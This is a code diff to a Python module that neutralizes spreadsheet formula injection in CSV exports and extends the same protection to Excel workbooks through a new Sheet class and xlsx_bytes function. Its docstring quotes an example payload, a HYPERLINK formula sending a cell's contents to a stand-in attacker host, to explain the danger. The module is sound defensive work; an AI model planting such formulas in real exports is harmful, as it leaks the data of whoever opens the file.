@@ -1,4 +1,4 @@
-"""Every CSV the system writes goes through here.
+"""Every CSV and Excel workbook the system writes goes through here.
 
 A spreadsheet runs a cell that begins with `=`, `+`, `-` or `@` (or a tab or CR, which some
 programs strip first) as a formula: `=HYPERLINK("http://evil.example/?"&E2,"詳細")` in a name
@@ -11,7 +11,11 @@ from __future__ import annotations
 
 import csv
 import io
-from collections.abc import Iterable
+from collections.abc import Iterable, Sequence
+from dataclasses import dataclass, field
+
+from openpyxl import Workbook
+from openpyxl.styles import Font
 
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
 
@@ -35,3 +39,35 @@ def csv_rows(text: str) -> list[list[str]]:
     """The rows of a CSV someone uploaded (already decoded, see app.uploads.text_upload), each cell
     trimmed: reading goes through the same one place as writing."""
     return [[cell.strip() for cell in row] for row in csv.reader(io.StringIO(text))]
+
+
+@dataclass(frozen=True)
+class Sheet:
+    """One worksheet: a title row, a header row, then the rows; text cells are made safe, numbers
+    stay numbers. `widths` by column letter; the panes freeze below the header, right of column A."""
+
+    name: str
+    title: str
+    header: Sequence[str]
+    rows: Sequence[Sequence[object]]
+    widths: dict[str, float] = field(default_factory=dict)
+
+
+def xlsx_bytes(sheets: Iterable[Sheet]) -> bytes:
+    book = Workbook()
+    book.remove(book.active)
+    for spec in sheets:
+        sheet = book.create_sheet(spec.name)
+        sheet.append([safe_cell(spec.title)])
+        sheet["A1"].font = Font(bold=True, size=13)
+        sheet.append([safe_cell(h) for h in spec.header])
+        for cell in sheet[2]:
+            cell.font = Font(bold=True)
+        for row in spec.rows:
+            sheet.append([safe_cell(c) if isinstance(c, str) else c for c in row])
+        for column, width in spec.widths.items():
+            sheet.column_dimensions[column].width = width
+        sheet.freeze_panes = "B3"
+    out = io.BytesIO()
+    book.save(out)
+    return out.getvalue()
